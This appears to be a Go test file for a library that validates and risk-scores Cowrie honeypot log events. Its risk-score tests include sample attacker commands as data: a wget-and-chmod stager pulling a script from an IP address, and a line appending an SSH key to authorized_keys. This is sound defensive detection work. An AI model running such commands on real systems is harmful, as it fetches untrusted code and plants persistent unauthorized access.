package cowrie

import (
	"encoding/json"
	"strings"
	"testing"
	"time"
)

func mustParse(t *testing.T, doc string) map[string]any {
	t.Helper()
	var m map[string]any
	if err := json.Unmarshal([]byte(doc), &m); err != nil {
		t.Fatalf("bad test document: %v", err)
	}
	return m
}

func TestValidate(t *testing.T) {
	tt := []struct {
		Name  string
		Doc   string
		OK    bool
		Known bool
	}{
		{
			Name:  "Connect",
			Doc:   `{"eventid":"cowrie.session.connect","timestamp":"2024-03-01T10:00:00.123456Z","session":"a1b2c3d4","src_ip":"198.51.100.7"}`,
			OK:    true,
			Known: true,
		},
		{
			Name:  "UnknownEventID",
			Doc:   `{"eventid":"cowrie.future.thing","timestamp":"2024-03-01T10:00:00Z","session":"a1b2c3d4"}`,
			OK:    true,
			Known: false,
		},
		{
			Name: "WrongVocabulary",
			Doc:  `{"eventid":"kippo.session.connect","timestamp":"2024-03-01T10:00:00Z"}`,
			OK:   false,
		},
		{
			Name: "MissingTimestamp",
			Doc:  `{"eventid":"cowrie.session.connect","session":"a1b2c3d4","src_ip":"198.51.100.7"}`,
			OK:   false,
		},
		{
			Name: "BadTimestamp",
			Doc:  `{"eventid":"cowrie.session.connect","timestamp":"yesterday","session":"a1b2c3d4","src_ip":"198.51.100.7"}`,
			OK:   false,
		},
		{
			Name: "ConnectWithoutSrcIP",
			Doc:  `{"eventid":"cowrie.session.connect","timestamp":"2024-03-01T10:00:00Z","session":"a1b2c3d4"}`,
			OK:   false,
		},
		{
			Name: "OversizedSession",
			Doc:  `{"eventid":"cowrie.command.input","timestamp":"2024-03-01T10:00:00Z","session":"` + strings.Repeat("f", 65) + `","input":"ls"}`,
			OK:   false,
		},
		{
			Name: "NumericEventID",
			Doc:  `{"eventid":7,"timestamp":"2024-03-01T10:00:00Z"}`,
			OK:   false,
		},
	}
	for _, tc := range tt {
		t.Run(tc.Name, func(t *testing.T) {
			v := Validate(mustParse(t, tc.Doc))
			if v.OK() != tc.OK {
				t.Errorf("OK: got %v, want %v (errs: %v)", v.OK(), tc.OK, v.Errs)
			}
			if v.OK() && v.Known != tc.Known {
				t.Errorf("Known: got %v, want %v", v.Known, tc.Known)
			}
		})
	}

	v := Validate(nil)
	if v.OK() {
		t.Error("nil map validated")
	}
}

func TestParseTimestamp(t *testing.T) {
	tt := []struct {
		In   string
		Want time.Time
	}{
		{"2024-03-01T10:00:00.123456Z", time.Date(2024, 3, 1, 10, 0, 0, 123456000, time.UTC)},
		{"2024-03-01T10:00:00Z", time.Date(2024, 3, 1, 10, 0, 0, 0, time.UTC)},
		{"2024-03-01T10:00:00+02:00", time.Date(2024, 3, 1, 8, 0, 0, 0, time.UTC)},
		{"2024-03-01T10:00:00.5", time.Date(2024, 3, 1, 10, 0, 0, 500000000, time.UTC)},
	}
	for _, tc := range tt {
		got, err := ParseTimestamp(tc.In)
		if err != nil {
			t.Errorf("ParseTimestamp(%q): %v", tc.In, err)
			continue
		}
		if !got.Equal(tc.Want) {
			t.Errorf("ParseTimestamp(%q): got %v, want %v", tc.In, got, tc.Want)
		}
	}
	if _, err := ParseTimestamp("not a time"); err == nil {
		t.Error("expected error for garbage input")
	}
}

func TestFromMap(t *testing.T) {
	m := mustParse(t, `{
		"eventid":"cowrie.login.failed",
		"timestamp":"2024-03-01T10:00:02Z",
		"session":"a1b2c3d4",
		"src_ip":"198.51.100.7",
		"username":"root",
		"password":"hunter2",
		"extra_key":{"nested":true}
	}`)
	ev := FromMap(m)
	if ev.EventID != "cowrie.login.failed" || ev.Session != "a1b2c3d4" {
		t.Errorf("bad projection: %+v", ev)
	}
	if ev.Username != "root" || ev.Password != "hunter2" {
		t.Errorf("credentials not projected: %+v", ev)
	}
	if ev.Timestamp.IsZero() {
		t.Error("timestamp not parsed")
	}
	if _, ok := ev.Raw["extra_key"]; !ok {
		t.Error("unknown key lost")
	}
}

func TestCanonicalize(t *testing.T) {
	a := mustParse(t, `{"b":1,"a":{"y":true,"x":[1,2,null]},"c":"str"}`)
	b := mustParse(t, `{
		"c": "str",
		"a": {"x": [1, 2, null], "y": true},
		"b": 1
	}`)
	ca, err := Canonicalize(a)
	if err != nil {
		t.Fatal(err)
	}
	cb, err := Canonicalize(b)
	if err != nil {
		t.Fatal(err)
	}
	if string(ca) != string(cb) {
		t.Errorf("canonical forms differ: %s vs %s", ca, cb)
	}
	const want = `{"a":{"x":[1,2,null],"y":true},"b":1,"c":"str"}`
	if string(ca) != want {
		t.Errorf("got: %s, want: %s", ca, want)
	}

	ha, err := PayloadHash(a)
	if err != nil {
		t.Fatal(err)
	}
	hb, err := PayloadHash(b)
	if err != nil {
		t.Fatal(err)
	}
	if ha != hb {
		t.Error("hashes differ for equivalent payloads")
	}
	if len(ha) != 64 {
		t.Errorf("unexpected hash length: %d", len(ha))
	}
}

func TestRiskScore(t *testing.T) {
	tt := []struct {
		Name string
		Ev   Event
		Min  int
		Max  int
	}{
		{Name: "Connect", Ev: Event{EventID: EventSessionConnect}, Min: 0, Max: 0},
		{Name: "FailedLogin", Ev: Event{EventID: EventLoginFailed}, Min: 5, Max: 5},
		{Name: "Download", Ev: Event{EventID: EventFileDownload}, Min: 60, Max: 79},
		{
			Name: "StagerCommand",
			Ev:   Event{EventID: EventCommandInput, Input: "wget http://198.51.100.7/x.sh && chmod +x x.sh"},
			Min:  80,
			Max:  100,
		},
		{
			Name: "KeyInjection",
			Ev:   Event{EventID: EventCommandInput, Input: `echo "ssh-rsa AAAA..." >> ~/.ssh/authorized_keys`},
			Min:  35,
			Max:  100,
		},
	}
	for _, tc := range tt {
		t.Run(tc.Name, func(t *testing.T) {
			got := RiskScore(&tc.Ev)
			if got < tc.Min || got > tc.Max {
				t.Errorf("got %d, want within [%d,%d]", got, tc.Min, tc.Max)
			}
		})
	}
}
